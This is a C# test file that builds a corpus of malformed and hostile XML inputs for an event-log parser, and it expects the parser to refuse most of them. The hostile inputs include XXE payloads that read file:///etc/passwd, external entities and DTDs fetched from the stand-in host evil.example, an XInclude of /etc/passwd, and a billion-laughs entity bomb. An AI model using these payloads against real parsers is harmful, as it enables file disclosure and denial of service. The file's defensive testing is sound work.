using System.Text;

namespace Carmen.Tests.Collector.BadInput;

internal static partial class Corpus
{
    private const string Event =
        "<event><string key=\"concept:name\" value=\"a\"/><date key=\"time:timestamp\" value=\"2026-01-05T10:00:00+02:00\"/></event>";
    private const string Trace = "<trace><string key=\"concept:name\" value=\"1\"/>" + Event + "</trace>";
    private const string Log = "<log>" + Trace + "</log>";
    private const string Declared = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

    private static BadClass[] XmlClasses =>
        [
            new(
                "XML that reaches beyond itself",
                "events",
                new("a document type", Declared + "<!DOCTYPE log>" + Log, Refused("document type")),
                new(
                    "an entity from a file",
                    Declared
                        + "<!DOCTYPE log [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + Log.Replace("\"a\"", "\"&x;\"", StringComparison.Ordinal),
                    Refused("document type")
                ),
                new(
                    "an entity from elsewhere",
                    Declared + "<!DOCTYPE log [<!ENTITY x SYSTEM \"http://evil.example/x\">]>" + Log,
                    Refused("document type")
                ),
                new(
                    "a document type from elsewhere",
                    Declared + "<!DOCTYPE log SYSTEM \"http://evil.example/x.dtd\">" + Log,
                    Refused("document type")
                ),
                new(
                    "a parameter entity",
                    Declared + "<!DOCTYPE log [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]>" + Log,
                    Refused("document type")
                ),
                new("a billion laughs", Laughs(), Refused("document type")),
                new(
                    "a long entity many times",
                    $"<!DOCTYPE log [<!ENTITY x \"{new string('x', 50_000)}\">]><log>{string.Concat(Enumerable.Repeat("&x;", 50_000))}</log>",
                    Refused("document type")
                ),
                new("an entity that nobody declared", Log.Replace("\"a\"", "\"&nbsp;\"", StringComparison.Ordinal), Refused("broken")),
                new(
                    "a part of another document",
                    "<log xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/>"
                        + Trace
                        + "</log>",
                    Read(1, 1)
                ),
                new("a style sheet", Declared + "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?>" + Log, Read(1, 1))
            ),
            new(
                "XML that is broken",
                "events",
                new("cut within an event", Log[..90], Refused("broken")),
                new("cut behind a trace", Log[..^6], Refused("broken")),
                new("an element not closed", Log.Replace("</event>", "", StringComparison.Ordinal), Refused("broken")),
                new("two outermost elements", Log + Log, Refused("broken")),
                new("text before it", "Here it is: " + Log, Refused("broken")),
                new("blanks before its declaration", "  " + Declared + Log, Refused("broken")),
                new("an attribute without quotes", Log.Replace("\"a\"", "a", StringComparison.Ordinal), Refused("broken")),
                new(
                    "an attribute twice",
                    Log.Replace("value=\"a\"", "value=\"a\" value=\"b\"", StringComparison.Ordinal),
                    Refused("broken")
                ),
                new("a control character", Log.Replace("\"a\"", "\"\u0001\"", StringComparison.Ordinal), Refused("broken")),
                new("a control character as a number", Log.Replace("\"a\"", "\"&#0;\"", StringComparison.Ordinal), Refused("broken")),
                new(
                    "bytes that are no UTF-8",
                    Encoding.Latin1.GetBytes(Declared + Log.Replace("\"a\"", "\"à\"", StringComparison.Ordinal)),
                    Refused("found XML")
                ),
                new(
                    "an encoding that it is not in",
                    Declared.Replace("UTF-8", "UTF-16", StringComparison.Ordinal) + Log,
                    Refused("found XML")
                ),
                new(
                    "an encoding that does not exist",
                    Declared.Replace("UTF-8", "klingon", StringComparison.Ordinal) + Log,
                    Refused("found XML")
                ),
                new(
                    "a prefix that nobody declared",
                    Log.Replace("<trace>", "<x:trace>", StringComparison.Ordinal)
                        .Replace("</trace>", "</x:trace>", StringComparison.Ordinal),
                    Refused("broken")
                ),
                new("ten thousand elements within each other", "<log>" + string.Concat(Enumerable.Repeat("<a>", 10_000)), Refused("deep")),
                new("a web page", "<html><head><title>Log in</title></head><body>Log in</body></html>", Refused("no event log")),
                new("no XML", "case,activity,time\n1,a,2026-01-05\n", Refused("broken"))
            ),
            new(
                "event logs that are unusual",
                "events",
                new(
                    "namespaces",
                    Log.Replace("<log>", "<log xmlns=\"http://www.xes-standard.org/\">", StringComparison.Ordinal),
                    Read(1, 1)
                ),
                new(
                    "a prefix",
                    "<x:log xmlns:x=\"http://www.xes-standard.org/\">"
                        + Trace
                            .Replace("</", "</x:", StringComparison.Ordinal)
                            .Replace("<trace", "<x:trace", StringComparison.Ordinal)
                            .Replace("<event", "<x:event", StringComparison.Ordinal)
                            .Replace("<string", "<x:string", StringComparison.Ordinal)
                            .Replace("<date", "<x:date", StringComparison.Ordinal)
                        + "</x:log>",
                    Read(1, 1)
                ),
                new("UTF-16", Encoding.Unicode.GetBytes("\uFEFF" + Log), Read(1, 1)),
                new("no traces", "<log></log>", Read(0, 0)) { Warns = "no events" },
                new("a trace without events", "<log><trace><string key=\"concept:name\" value=\"1\"/></trace></log>", Read(0, 0)),
                new(
                    "an event without a time",
                    Log.Replace("time:timestamp", "org:group", StringComparison.Ordinal),
                    Read(1, 0, ("date", 1))
                ),
                new(
                    "an event without a name",
                    Log.Replace(
                        "</trace>",
                        "<event><date key=\"time:timestamp\" value=\"2026-01-05T10:00:00Z\"/></event></trace>",
                        StringComparison.Ordinal
                    ),
                    Read(2, 1, ("activity", 1))
                ),
                new("a trace without a name", "<log><trace>" + Event + "</trace></log>", Read(1, 0, ("case", 1))),
                new(
                    "an event without attributes",
                    "<log><trace><string key=\"concept:name\" value=\"1\"/><event/></trace></log>",
                    Read(1, 0, ("activity", 1))
                ),
                new("attributes without values", Log.Replace(" value=\"a\"", "", StringComparison.Ordinal), Read(1, 0, ("activity", 1))),
                new(
                    "a time that is none",
                    Log.Replace("2026-01-05T10:00:00+02:00", "soon", StringComparison.Ordinal),
                    Read(1, 0, ("date", 1))
                ),
                new("the same event twice", "<log>" + Trace.Replace(Event, Event + Event, StringComparison.Ordinal) + "</log>", Read(2, 2)),
                new(
                    "an e-mail address as the activity",
                    Log.Replace("\"a\"", "\"anna.rossi@example.org\"", StringComparison.Ordinal),
                    Read(1, 1)
                )
                {
                    Hides = "anna.rossi",
                },
                new(
                    "ten thousand attributes",
                    Log.Replace(
                        "<event>",
                        "<event>" + string.Concat(Enumerable.Range(0, 10_000).Select(i => $"<string key=\"k{i}\" value=\"v\"/>")),
                        StringComparison.Ordinal
                    ),
                    Read(1, 1)
                ),
                new(
                    "fifty thousand attributes of one element",
                    Log.Replace(
                        "<trace>",
                        "<trace " + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"a{i}=\"\" ")) + ">",
                        StringComparison.Ordinal
                    ),
                    Read(1, 1)
                )
            ),
        ];

    private static string Laughs() =>
        "<!DOCTYPE log [<!ENTITY l0 \"ha\">"
        + string.Concat(Enumerable.Range(1, 30).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"))
        + "]><log>&l30;</log>";
}
